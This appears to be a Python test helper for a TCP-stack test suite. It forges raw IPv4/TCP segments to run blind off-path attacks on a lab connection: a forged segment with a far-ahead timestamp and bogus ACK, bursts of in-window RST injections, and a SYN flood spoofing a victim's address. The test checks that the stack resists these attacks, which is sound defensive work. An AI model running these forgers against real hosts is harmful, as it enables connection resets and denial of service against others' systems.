#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Blind (off-path) attacks on a live kernel-TCP connection to dp, for
test_tcp_blind.sh. Runs in the clients' namespace as root: segments are
forged with a raw IPv4 socket (IP_HDRINCL), and what goes by on the
interface is read with an AF_PACKET socket (no scapy, no tcpdump).

  paws   IFACE DST PORT      a segment at dp's RCV.NXT with a TSval far
                             ahead and an ACK for data never sent; then
                             the real client's data must still echo
  chack  IFACE DST PORT N    N in-window RSTs (not at RCV.NXT) in a burst,
                             twice, 1.2 s apart: the ACKs dp sends back on
                             that connection are counted
  flood  IFACE SRC DST PORT N  N SYNs from SRC (the victim's address),
                             ports 20000.. (below the kernel's ephemeral
                             range, where the victim's own port is), then
                             the victim connects and
                             echoes

Each prints one JSON line.
"""
import json
import os
import random
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def tcp_segment(src, dst, sport, dport, seq, ack, flags, wnd=65535, opts=b"", payload=b""):
    while len(opts) % 4:
        opts += b"\x01"
    off = (20 + len(opts)) // 4
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                      off << 4, flags, wnd, 0, 0) + opts
    ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(hdr) + len(payload))
    ck = csum(ph + hdr + payload)
    hdr = hdr[:16] + struct.pack("!H", ck) + hdr[18:]
    return hdr + payload


def ip_packet(src, dst, seg):
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(seg), random.randint(0, 65535), 0x4000,
                     64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + seg


class Raw:
    def __init__(self):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)

    def send(self, src, dst, seg):
        self.s.sendto(ip_packet(src, dst, seg), (dst, 0))


def parse_tcp(frame):
    """An Ethernet frame's IPv4 TCP segment as a dict, or None."""
    if len(frame) < 14 + 20 + 20 or frame[12:14] != b"\x08\x00":
        return None
    ip = frame[14:]
    ihl = (ip[0] & 15) * 4
    if ip[9] != 6:
        return None
    tot = struct.unpack("!H", ip[2:4])[0]
    tcp = ip[ihl:tot]
    sport, dport, seq, ack, off, flags, wnd = struct.unpack("!HHIIBBH", tcp[:16])
    hl = (off >> 4) * 4
    d = dict(src=socket.inet_ntoa(ip[12:16]), dst=socket.inet_ntoa(ip[16:20]), sport=sport,
             dport=dport, seq=seq, ack=ack, flags=flags, wnd=wnd, len=len(tcp) - hl, tsval=None)
    i, o = 0, tcp[20:hl]
    while i < len(o):
        k = o[i]
        if k == 0:
            break
        if k == 1:
            i += 1
            continue
        if i + 1 >= len(o) or o[i + 1] < 2:
            break
        if k == 8 and o[i + 1] == 10:
            d["tsval"], d["tsecr"] = struct.unpack("!II", o[i + 2:i + 10])
        i += o[i + 1]
    return d


class Sniff:
    def __init__(self, iface):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.s.bind((iface, 0))
        self.s.setblocking(False)
        self.segs = []

    def pump(self, t=0.0):
        end = time.monotonic() + t
        while True:
            left = end - time.monotonic()
            r, _, _ = select.select([self.s], [], [], max(left, 0))
            if not r:
                if left <= 0:
                    return
                continue
            try:
                while True:
                    frame, addr = self.s.recvfrom(65535)
                    d = parse_tcp(frame)
                    if d is not None:
                        d["t"] = time.monotonic()
                        self.segs.append(d)
            except BlockingIOError:
                pass


def flow_state(sn, cli, dst):
    """The client's next sequence and latest TSval, dp's next sequence, as
    seen on the wire."""
    out = [d for d in sn.segs if d["src"] == cli[0] and d["sport"] == cli[1] and d["dst"] == dst]
    back = [d for d in sn.segs if d["dst"] == cli[0] and d["dport"] == cli[1] and d["src"] == dst]
    last = out[-1]
    nxt = max(((d["seq"] + d["len"] + (1 if d["flags"] & 3 else 0)) & 0xFFFFFFFF) for d in out[-8:])
    tsval = max(d["tsval"] for d in out if d["tsval"] is not None)
    dp_nxt = back[-1]["seq"] + back[-1]["len"] if back else last["ack"]
    return nxt, tsval, dp_nxt


def echo(sock, data, timeout):
    sock.settimeout(timeout)
    sock.sendall(data)
    got = b""
    end = time.monotonic() + timeout
    while len(got) < len(data) and time.monotonic() < end:
        try:
            b = sock.recv(65536)
        except socket.timeout:
            break
        if not b:
            break
        got += b
    return got == data


def ts_opt(tsval, tsecr):
    return b"\x01\x01\x08\x0a" + struct.pack("!II", tsval & 0xFFFFFFFF, tsecr & 0xFFFFFFFF)


def cmd_paws(iface, dst, port):
    sn = Sniff(iface)
    c = socket.create_connection((dst, port), timeout=5)
    cli = c.getsockname()
    ok0 = echo(c, b"before", 3)
    sn.pump(0.3)
    nxt, tsval, dp_nxt = flow_state(sn, cli, dst)
    raw = Raw()
    # at RCV.NXT, TSval 2^30 ahead, ACK 10^6 past what dp sent
    raw.send(cli[0], dst, tcp_segment(cli[0], dst, cli[1], port, nxt, dp_nxt + 1000000, 0x10,
                                      opts=ts_opt(tsval + (1 << 30), 0)))
    time.sleep(0.3)
    ok1 = echo(c, b"after the forged segment", 5)
    sn.pump(0.1)
    c.close()
    print(json.dumps(dict(before=ok0, after=ok1, client=list(cli))))


def cmd_chack(iface, dst, port, n):
    sn = Sniff(iface)
    c = socket.create_connection((dst, port), timeout=5)
    cli = c.getsockname()
    ok0 = echo(c, b"hello", 3)
    sn.pump(0.5)
    nxt, tsval, dp_nxt = flow_state(sn, cli, dst)
    raw = Raw()
    counts = []
    for burst in range(2):
        t0 = time.monotonic()
        for i in range(n):
            raw.send(cli[0], dst, tcp_segment(cli[0], dst, cli[1], port, nxt + 1000 + i, 0, 0x04, wnd=0))
        sent_s = time.monotonic() - t0
        sn.pump(1.2)
        acks = [d for d in sn.segs if d["t"] >= t0 and d["src"] == dst and d["dport"] == cli[1]
                and d["flags"] == 0x10 and d["len"] == 0]
        counts.append(dict(acks=len(acks), sent_in_s=round(sent_s, 3)))
    ok1 = echo(c, b"still there", 3)
    c.close()
    print(json.dumps(dict(before=ok0, bursts=counts, after=ok1, n=n)))


def cmd_flood(iface, src, dst, port, n):
    raw = Raw()
    t0 = time.monotonic()
    for i in range(n):
        sport = 20000 + i
        opts = b"\x02\x04\x05\xb4" + b"\x01\x03\x03\x07" + ts_opt(random.getrandbits(32), 0)
        raw.send(src, dst, tcp_segment(src, dst, sport, port, random.getrandbits(32), 0, 0x02, opts=opts))
    sent_s = time.monotonic() - t0
    time.sleep(0.5)
    t1 = time.monotonic()
    ok = False
    err = None
    try:
        c = socket.create_connection((dst, port), timeout=8)
        ok = echo(c, b"victim", 5)
        c.close()
    except OSError as e:
        err = str(e)
    print(json.dumps(dict(sent=n, sent_in_s=round(sent_s, 3), victim_echo=ok,
                          victim_s=round(time.monotonic() - t1, 3), error=err)))


def main():
    a = sys.argv[1:]
    if a[0] == "paws":
        cmd_paws(a[1], a[2], int(a[3]))
    elif a[0] == "chack":
        cmd_chack(a[1], a[2], int(a[3]), int(a[4]))
    elif a[0] == "flood":
        cmd_flood(a[1], a[2], a[3], int(a[4]), int(a[5]))
    else:
        sys.exit("usage: tcp_blind.py paws|chack|flood ...")


if __name__ == "__main__":
    main()
